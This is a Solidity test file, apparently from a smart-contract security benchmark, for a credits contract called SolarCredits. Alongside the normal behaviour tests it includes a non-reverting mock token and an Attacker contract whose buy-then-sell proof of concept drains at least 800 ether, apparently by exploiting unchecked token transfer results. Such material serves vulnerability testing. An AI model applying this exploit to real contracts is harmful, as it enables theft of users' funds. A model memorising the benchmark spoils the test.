pragma solidity 0.5.17;

import "./SolarCredits.sol";

// assay-canary-8ca2fbeb-33a1-4551-9422-7ca9582153b8

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

// An old coin, which answers instead of reverting.
contract OldCoin {
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    constructor() public {
        balanceOf[msg.sender] = 100000 ether;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        return move(msg.sender, to, amount);
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (allowance[from][msg.sender] < amount || !move(from, to, amount)) {
            return false;
        }
        allowance[from][msg.sender] -= amount;
        return true;
    }

    function move(address from, address to, uint256 amount) private returns (bool) {
        if (balanceOf[from] < amount) {
            return false;
        }
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);

    OldCoin private token;
    SolarCredits private solar;
    Attacker private mallory;

    function setUp() public {
        token = new OldCoin();
        solar = new SolarCredits(Coin(address(token)), 2 ether);
        token.transfer(ANA, 5000 ether);
        token.transfer(BEN, 5000 ether);
        vm.startPrank(ANA);
        token.approve(address(solar), 5000 ether);
        solar.buy(500);
        vm.stopPrank();
        vm.prank(BEN);
        token.approve(address(solar), 5000 ether);
        mallory = new Attacker(solar);
    }

    function test_Regular() public {
        require(solar.credits(ANA) == 500 && token.balanceOf(ANA) == 4000 ether, "bought");
        vm.prank(ANA);
        solar.sell(100);
        require(token.balanceOf(ANA) == 4180 ether, "sold");
        vm.prank(ANA);
        solar.send(BEN, 100);
        solar.note(BEN, 130);
        require(solar.credits(BEN) == 0 && solar.owed(BEN) == 30, "owed");
        vm.startPrank(BEN);
        solar.buy(20);
        require(solar.owed(BEN) == 10, "less owed");
        solar.buy(20);
        vm.stopPrank();
        require(solar.owed(BEN) == 0 && solar.credits(BEN) == 10, "in credit");
        solar.note(BEN, 135);
        require(solar.credits(BEN) == 5 && solar.reading(BEN) == 135, "read");
        solar.collect(address(this), 100 ether);
        require(token.balanceOf(address(solar)) == 1000 ether - 180 ether + 80 ether - 100 ether, "collected");
        solar.transferOwnership(ANA);
        vm.prank(ANA);
        solar.renounceOwnership();
    }

    function test_RefusesMembers() public {
        vm.startPrank(ANA);
        vm.expectRevert("nothing");
        solar.buy(0);
        vm.expectRevert("too few");
        solar.sell(501);
        vm.expectRevert("too few");
        solar.send(BEN, 501);
        vm.expectRevert("no member");
        solar.send(address(0), 1);
        vm.expectRevert("Ownable: caller is not the owner");
        solar.note(ANA, 1);
        vm.expectRevert("Ownable: caller is not the owner");
        solar.collect(ANA, 1);
        vm.stopPrank();
    }

    function test_RefusesOwners() public {
        vm.expectRevert("no coin");
        new SolarCredits(Coin(address(0)), 1);
        vm.expectRevert("no price");
        new SolarCredits(Coin(address(token)), 0);
        solar.note(ANA, 10);
        vm.expectRevert("falling");
        solar.note(ANA, 9);
        vm.expectRevert("no account");
        solar.collect(address(0), 1);
        vm.expectRevert("not sent");
        solar.collect(ANA, 1000 ether + 1);
        solar.collect(ANA, 1000 ether);
        vm.prank(ANA);
        vm.expectRevert("not sent");
        solar.sell(1);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(token.balanceOf(address(mallory)) >= 800 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(solar);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function coin() public view returns (address) {
        return address(token);
    }
}

contract Attacker {
    SolarCredits private solar;

    constructor(SolarCredits s) public {
        solar = s;
    }

    function run() external {
        solar.buy(500);
        solar.sell(500);
    }
}
